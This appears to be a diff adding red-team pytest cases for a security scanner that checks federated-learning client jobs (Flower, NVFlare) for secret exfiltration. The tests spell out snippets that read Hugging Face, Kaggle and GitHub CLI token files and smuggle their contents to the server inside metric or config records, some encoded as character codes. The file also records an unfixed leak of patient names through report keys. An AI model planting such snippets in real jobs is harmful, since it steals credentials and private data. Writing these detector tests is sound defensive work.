@@ -1,0 +1,149 @@
+"""Red team 43b: Flower apps, notebooks and mixed jobs written by an adversary who read the source.
+
+The hole: a secret (a tool's token file, a credential environment variable) handed to a library call by its bare
+name (`MetricRecord({...})`, `ConfigRecord({...})`, `array(...)`, `tensor(...)` imported by name) left the call's
+result without it: the flow dropped every secret a library call was given, for the sake of a token passed to a
+download. A Flower app wraps everything it sends in such calls, so its token file reached the server accepted.
+Now only calls that log in or download with a credential (rules/flow/secrets.yaml credential_users) leave it out.
+"""
+
+from __future__ import annotations
+
+import pytest
+
+import redteam_kit as kit
+
+SECRET = "credential-harvest.secret-in-channel"
+
+# A Flower ClientApp (Message API) whose train() sends `metrics` in a MetricRecord and `config` in a ConfigRecord;
+# `{read}` binds `raw` (what the attack sends), `{send}` fills metrics/config from it.
+FLOWER_APP = '''import os
+from pathlib import Path
+
+from numpy import array
+from torch import tensor
+import torch
+from flwr.app import ArrayRecord, ConfigRecord, Context, Message, MetricRecord, RecordDict
+from flwr.clientapp import ClientApp
+
+app = ClientApp()
+
+
+@app.train()
+def train(msg: Message, context: Context):
+    net = torch.nn.Linear(8, 1)
+    net.load_state_dict(msg.content["arrays"].to_torch_state_dict())
+{read}
+    metrics = {{"train_loss": 0.5}}
+    config = {{"optimizer": "adam"}}
+{send}
+    content = RecordDict({{"arrays": ArrayRecord(net.state_dict()), "metrics": MetricRecord(metrics),
+                          "config": ConfigRecord(config)}})
+    return Message(content=content, reply_to=msg)
+'''
+
+TOKEN_READS = {
+    "hf_token_joined": '    raw = open(os.path.join(os.path.expanduser("~"), ".cache", "huggingface", "token")).read()',
+    "kaggle_pathlib": '    raw = (Path.home() / ".kaggle" / "kaggle.json").read_text()',
+    "gh_hosts": '    raw = open(os.path.expanduser("~/.config/gh/hosts.yml")).read()',
+}
+
+SENDS = {
+    "metric_text": '    metrics["warmup"] = raw',
+    "config_text": '    config["cache"] = raw',
+    "numpy_codes": '    metrics["warmup"] = array([ord(c) for c in raw], dtype="float64").tolist()',
+    "torch_codes": '    metrics["warmup"] = tensor([float(ord(c)) for c in raw]).tolist()',
+    "bytes_list": '    metrics["warmup"] = [float(b) for b in raw.encode()]',
+}
+
+
+def flower_app(read: str, send: str) -> str:
+    return FLOWER_APP.format(read=read, send=send)
+
+
+@pytest.mark.parametrize("read", sorted(TOKEN_READS))
+@pytest.mark.parametrize("send", sorted(SENDS))
+def test_a_token_file_in_a_flower_reply_is_rejected(read: str, send: str) -> None:
+    report = kit.scan_text(flower_app(TOKEN_READS[read], SENDS[send]), "tabflow/client_app.py")
+    kit.assert_held(report, SECRET, kit.Decision.REJECT)
+
+
+@pytest.mark.parametrize("send", sorted(SENDS))
+def test_the_jobs_own_text_file_in_a_flower_reply_stays_accepted(send: str) -> None:
+    read = '    raw = open(os.path.join(os.path.dirname(__file__), "warmup.txt")).read()'
+    kit.assert_accepted(kit.scan_text(flower_app(read, SENDS[send]), "tabflow/client_app.py"))
+
+
+def test_a_token_a_download_logs_in_with_is_not_in_the_download() -> None:
+    """The nearest legitimate idiom: the site's token fetches pretrained weights; the path, and the metric of
+    whether the file is there, are not the token (the download escalates for what it is, not as a secret)."""
+    read = ('    token = os.environ.get("HF_TOKEN")\n'
+            '    from huggingface_hub import hf_hub_download\n'
+            '    raw = hf_hub_download("org/tabnet", "model.safetensors", token=token)')
+    report = kit.scan_text(flower_app(read, '    metrics["has_backbone"] = float(os.path.exists(raw))'),
+                           "tabflow/client_app.py")
+    assert not kit.holds(report, SECRET), kit.findings(report)
+
+
+def test_a_token_through_a_bare_name_call_in_an_nvflare_client_is_rejected(tmp_path) -> None:
+    client = kit.ClientJob(imports="import os\nimport pandas as pd\nimport torch\nfrom numpy import frombuffer\n"
+                                   "import nvflare.client as flare\n")
+    decision, rules = client.verdict(
+        tmp_path, 'raw = open(os.path.expanduser("~/.kaggle/kaggle.json")).read()',
+        extra=', meta={"licence": frombuffer(raw.encode(), dtype="uint8").tolist()}')
+    assert decision == "reject" and SECRET in rules, rules
+
+
+# ---- the corpus samples ---------------------------------------------------------------------------------------------
+
+ATTACKS = kit.corpus_samples("malicious/rt43b_*", "jobs/rt43b_*")
+TWINS = kit.corpus_samples("benign/near_rt43b_*", "jobs/near_rt43b_*")
+
+
+def test_the_samples_are_labelled() -> None:
+    labels = {e["path"]: e for e in kit.labelled("rt43b_")}
+    assert len(ATTACKS) == 3 and len(TWINS) == 3
+    assert all(labels[s]["kind"] == "malicious" for s in ATTACKS)
+    assert all(labels[s]["kind"] == "benign" for s in TWINS)
+
+
+@pytest.mark.parametrize("sample", ATTACKS)
+def test_attack_sample_is_rejected(sample: str) -> None:
+    kit.assert_held(kit.scan_sample(sample), SECRET, kit.Decision.REJECT)
+
+
+@pytest.mark.parametrize("sample", TWINS)
+def test_twin_sample_stays_accepted(sample: str) -> None:
+    kit.assert_accepted(kit.scan_sample(sample))
+
+
+# ---- found and left open --------------------------------------------------------------------------------------------
+
+REPORT_APP = '''import pandas as pd
+from sklearn.metrics import classification_report
+from flwr.app import Context, Message, MetricRecord, RecordDict
+from flwr.clientapp import ClientApp
+
+app = ClientApp()
+
+
+@app.evaluate()
+def evaluate(msg: Message, context: Context):
+    df = pd.read_csv(context.node_config["data-path"])
+    report = classification_report(df[{column!r}], df[{column!r}], output_dict=True, zero_division=0)
+{send}
+    return Message(content=RecordDict({{"metrics": MetricRecord(metrics)}}), reply_to=msg)
+'''
+
+
+@pytest.mark.xfail(strict=True, reason="open: sklearn.metrics is vouched as metrics whole; classification_report's "
+                                       "keys are the distinct values of the column it is handed (every patient's "
+                                       "name), and the flow has no separate provenance for a library dict's keys")
+def test_the_keys_of_a_classification_report_of_an_identifier_column_are_not_accepted() -> None:
+    send = '    metrics = {f"f1_{k}": v["f1-score"] for k, v in report.items() if isinstance(v, dict)}'
+    kit.assert_held(kit.scan_text(REPORT_APP.format(column="patient_name", send=send), "app/client_app.py"))
+
+
+def test_the_macro_average_of_a_classification_report_stays_accepted() -> None:
+    send = '    metrics = {"macro_f1": report["macro avg"]["f1-score"]}'
+    kit.assert_accepted(kit.scan_text(REPORT_APP.format(column="label", send=send), "app/client_app.py"))
